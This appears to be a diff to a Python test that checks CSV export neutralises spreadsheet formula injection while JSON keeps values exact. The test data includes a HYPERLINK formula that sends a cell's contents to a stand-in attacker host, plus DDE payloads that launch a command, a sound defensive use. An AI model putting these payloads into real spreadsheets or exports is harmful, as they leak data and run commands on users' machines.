@@ -12,7 +12,9 @@ FORMULAS = {
     "notes": '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "documented_by": "+1+cmd|' /C calc'!A0",
     "perpetrator": "-2+3",
-    "sources[0].publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
+    # No '|' here: it separates a record's sources in the CSV, and the build refuses it in a
+    # publisher (the DDE payload with '|' is tested in documented_by).
+    "sources[0].publisher": "@SUM(1+1)*cmd",
     "s-2 notes": "=1+1 in the notes of a second record",
 }
 
@@ -46,7 +48,7 @@ def test_formula_cells_are_neutralised_in_csv_and_exact_in_json(tmp_path):
     assert s1["notes"] == "'" + FORMULAS["notes"]
     assert s1["documented_by"] == "'" + FORMULAS["documented_by"]
     assert s1["perpetrator"] == "'" + FORMULAS["perpetrator"]
-    publishers = s1["source_publisher"].split("\n")
+    publishers = s1["source_publisher"].split("|")
     assert publishers[0].startswith("'@SUM"), s1["source_publisher"]
     for row in rows[1:]:
         for column, cell in row.items():
